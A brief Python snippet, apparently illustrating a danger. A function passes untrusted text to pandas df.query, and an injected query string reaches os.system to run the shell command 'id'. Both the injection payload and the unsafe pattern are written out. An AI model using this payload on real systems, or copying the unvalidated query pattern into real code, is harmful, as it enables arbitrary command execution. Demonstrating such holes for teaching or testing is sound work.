# danger: a query that a function is handed
import pandas as pd
df = pd.read_csv("sales.csv")

def chosen(text):
    return df.query(text)

chosen("@pd.io.common.os.system('id') == 0")
